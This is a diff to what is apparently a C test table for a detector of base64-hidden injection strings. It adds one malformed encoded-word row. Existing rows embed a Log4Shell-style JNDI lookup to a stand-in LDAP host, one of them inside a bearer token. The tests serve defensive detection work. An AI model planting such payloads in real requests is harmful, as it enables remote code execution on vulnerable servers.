@@ -123,6 +123,7 @@ static void base64(void **state)
         ROW("X-Api-Version:" PLAIN_BASE64, EXPLOIT, .chain = "base64"),
         ROW("data:text/plain;base64," PLAIN_BASE64, EXPLOIT, .chain = "base64"),
         ROW("=?utf-8?B?" PLAIN_BASE64 "?=", EXPLOIT, .chain = "encoded_word"),
+        ROW("=?x?b?A " PLAIN_BASE64, EXPLOIT, .chain = "base64"), /* no word, but for who reads it as one nothing is left of the value */
         /* {"sub":"${jndi:ldap://h.example/a}"} as the second piece of a token */
         ROW("Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIke2puZGk6bGRhcDovL2guZXhhbXBsZS9hfSJ9.", EXPLOIT, .chain = "base64"),
         ROW("a=1;b=" PLAIN_BASE64 "; c=2", EXPLOIT, .chain = "base64"),
